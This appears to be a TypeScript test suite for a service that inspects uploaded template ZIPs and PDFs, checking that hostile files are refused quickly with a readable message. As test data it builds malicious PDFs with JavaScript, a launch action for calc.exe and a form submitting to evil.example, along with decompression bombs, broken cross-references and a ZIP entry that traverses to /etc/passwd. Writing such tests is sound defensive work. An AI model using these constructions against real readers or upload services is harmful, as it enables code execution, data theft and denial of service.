import { randomBytes } from 'node:crypto';
import { deflateSync } from 'node:zlib';
import { strToU8, zipSync } from 'fflate';
import { PDFDocument, PDFName, PDFString } from 'pdf-lib';
import { describe, expect, test } from 'vitest';
import { inspectUpload } from '../../../src/central/services/documents/thread.ts';
import { bomb, onePage, pdfOf } from '../../support/hostilePdfs.ts';
import { furnish, openSchool } from '../school.ts';
import { bundled, upload } from './uploading.ts';

const fonts = new URL('../../../resources/fonts', import.meta.url).pathname;

/** What central says about a template with this page; seconds that it took. */
async function saidOf(
  background: Uint8Array,
): Promise<{ readonly faults: string; readonly seconds: number }> {
  const files = new Map([...(await bundled()), ['background.pdf', background]]);
  return saidOfUpload(zipSync(Object.fromEntries(files)));
}

async function saidOfUpload(
  file: Uint8Array,
): Promise<{ readonly faults: string; readonly seconds: number }> {
  const from = performance.now();
  const seen = await inspectUpload({ fonts }, file);
  const faults = seen.tag === 'faults' ? seen.faults.join(' ') : `not refused: ${seen.tag}`;
  return { faults, seconds: (performance.now() - from) / 1000 };
}

async function plain(change: (pdf: PDFDocument) => void, compressed = false): Promise<Uint8Array> {
  const pdf = await PDFDocument.create();
  pdf.addPage([792, 612]);
  change(pdf);
  return pdf.save({ useObjectStreams: compressed });
}

const openAction = (type: string, more: Record<string, PDFString>) => (pdf: PDFDocument) => {
  pdf.catalog.set(PDFName.of('OpenAction'), pdf.context.obj({ S: type, ...more }));
};
const catalog = (more: string) =>
  pdfOf([
    `<</Type/Catalog/Pages 2 0 R${more}>>`,
    '<</Type/Pages/Count 1/Kids[3 0 R]>>',
    '<</Type/Page/Parent 2 0 R/MediaBox[0 0 792 612]>>',
  ]);
const script = openAction('JavaScript', { JS: PDFString.of('app.alert(1)') });
const ZEROS = deflateSync(Buffer.alloc(200 * 1024 * 1024));

/** What somebody might hand in as the page of a template, and what is said of it. */
const pages: readonly (readonly [
  what: string,
  page: () => Promise<Uint8Array> | Uint8Array,
  sentence: RegExp,
])[] = [
  ['words', () => Buffer.from('hello'), /background\.pdf: It is not a PDF\./u],
  ['noise', () => randomBytes(200_000), /It is not a PDF\./u],
  ['an empty file', () => Buffer.alloc(0), /./u],
  ['JavaScript', () => plain(script), /It holds JavaScript\./u],
  ['JavaScript in an object stream', () => plain(script, true), /It holds JavaScript\./u],
  [
    'JavaScript by another spelling of its name',
    () => catalog('/OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>'),
    /It holds JavaScript\./u,
  ],
  [
    'a launch action',
    () => plain(openAction('Launch', { F: PDFString.of('calc.exe') })),
    /starts another program/u,
  ],
  [
    'a form that sends data',
    () => catalog('/OpenAction<</S/SubmitForm/F(http://evil.example)>>'),
    /sends data/u,
  ],
  ['an action of a page', () => catalog('/AA<</O 5 0 R>>'), /does something by itself/u],
  ['an XFA form', () => catalog('/AcroForm<</XFA 5 0 R>>'), /XFA form/u],
  ['a film', () => catalog('/Names<</RichMedia 5 0 R>>'), /film, sound or 3D/u],
  [
    'an embedded file',
    () => plain((pdf) => pdf.catalog.set(PDFName.of('Names'), pdf.context.obj({ EmbeddedFiles: {} }))),
    /other files inside/u,
  ],
  [
    'an attachment',
    async () => {
      const pdf = await PDFDocument.create();
      pdf.addPage([792, 612]);
      await pdf.attach(Buffer.from('MZ'), 'payload.exe', { mimeType: 'application/octet-stream' });
      return pdf.save();
    },
    /other files inside/u,
  ],
  [
    'encryption',
    () => Buffer.from('%PDF-1.7\n1 0 obj\n<<>>\nendobj\ntrailer<</Encrypt 1 0 R/Root 1 0 R>>\n%%EOF'),
    /It is encrypted\./u,
  ],
  [
    '10,000 pages',
    () =>
      plain((pdf) => {
        for (let page = 0; page < 10_000; page += 1) pdf.addPage([10, 10]);
      }),
    /It has 10001 pages/u,
  ],
  [
    '10,000 pages in object streams',
    () =>
      plain((pdf) => {
        for (let page = 0; page < 10_000; page += 1) pdf.addPage([10, 10]);
      }, true),
    /pages/u,
  ],
  [
    'a page count that lies',
    () => pdfOf(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Count 1000000000/Kids[2 0 R]>>']),
    /./u,
  ],
  ['a decompression bomb', () => onePage('/MediaBox[0 0 792 612]', ZEROS), /more than 128 MB/u],
  ['a bomb in many parts', () => onePage('/MediaBox[0 0 792 612]', bomb(4000)), /more than 128 MB/u],
  [
    'a bomb in a bomb',
    () => onePage('/MediaBox[0 0 792 612]', deflateSync(ZEROS), '/Filter[/FlateDecode/FlateDecode]'),
    /more than 128 MB|more than once/u,
  ],
  [
    'cross-references to nowhere',
    () => Buffer.from('%PDF-1.7\nxref\n0 99999999\nstartxref\n-5\n%%EOF'),
    /./u,
  ],
  [
    'cross-references that lead to themselves',
    () =>
      Buffer.from(
        '%PDF-1.7\nxref\n0 1\n0000000000 65535 f \ntrailer<</Size 1/Prev 9/Root 1 0 R>>\nstartxref\n9\n%%EOF',
      ),
    /./u,
  ],
  ['objects without an end', () => Buffer.from(`%PDF-1.7\n1 0 obj\n${'<<'.repeat(200_000)}`), /./u],
  ['half a file', async () => (await plain(() => undefined)).slice(0, 300), /./u],
];

describe('A page of a template that does harm is refused with a sentence, within seconds', () => {
  test.each(pages)(
    '%s',
    async (_, page, sentence) => {
      const { faults, seconds } = await saidOf(await page());
      expect(faults).not.toMatch(/^not refused/u);
      expect(faults).toMatch(sentence);
      expect(faults).toMatch(/^[A-Z“b].*\.$/su);
      expect(seconds).toBeLessThan(22);
    },
    40_000,
  );
});

describe('Upload files that are none', () => {
  const big = (megabytes: number) => new Uint8Array(megabytes * 1024 * 1024);
  test.each([
    ['a broken ZIP', Buffer.from('PK\u0003\u0004 not a zip'), /neither HTML nor a ZIP/u],
    [
      'a ZIP that unpacks to 200 MB',
      zipSync({ 'template.json': strToU8('{}'), 'background.pdf': big(200) }),
      /unpacks to too much/u,
    ],
    [
      'a ZIP with many large files',
      zipSync(Object.fromEntries(Array.from({ length: 6 }, (_, index) => [`f${index}.pdf`, big(20)]))),
      /unpacks to too much/u,
    ],
    [
      'a ZIP that leads out of its folder',
      zipSync({ 'template.json': strToU8('{}'), '../../etc/passwd': strToU8('x') }),
      /./u,
    ],
    ['a ZIP without a template', zipSync({ 'readme.txt': strToU8('x') }), /no template\.json/u],
    [
      'a page of PDF alone',
      onePage('/MediaBox[0 0 792 612]', deflateSync(Buffer.from('0 0 m'))),
      /neither HTML nor a ZIP/u,
    ],
  ])(
    '%s is refused',
    async (_, file, sentence) => {
      const { faults, seconds } = await saidOfUpload(file);
      expect(faults).not.toMatch(/^not refused/u);
      expect(faults).toMatch(sentence);
      expect(seconds).toBeLessThan(22);
    },
    40_000,
  );
});

test('A refusal is 422 with its sentences, more than 10 MB is one of them, and nothing is kept', async () => {
  const school = await openSchool('pglite');
  const version = await furnish(school);
  const hostile = await upload(
    school,
    new Map([...(await bundled()), ['background.pdf', await plain(script)]]),
  );
  expect([hostile.status, hostile.faults]).toEqual([422, ['background.pdf: It holds JavaScript.']]);
  const large = await upload(school, Buffer.alloc(11 * 1024 * 1024));
  expect([large.status, large.faults]).toEqual([422, ['It is larger than 10 MB.']]);
  const kept = await school.call('GET', '/v1/templates');
  expect(kept.body).toMatchObject([{ templateVersion: version }]);
  expect(kept.body).toHaveLength(1);
}, 60_000);
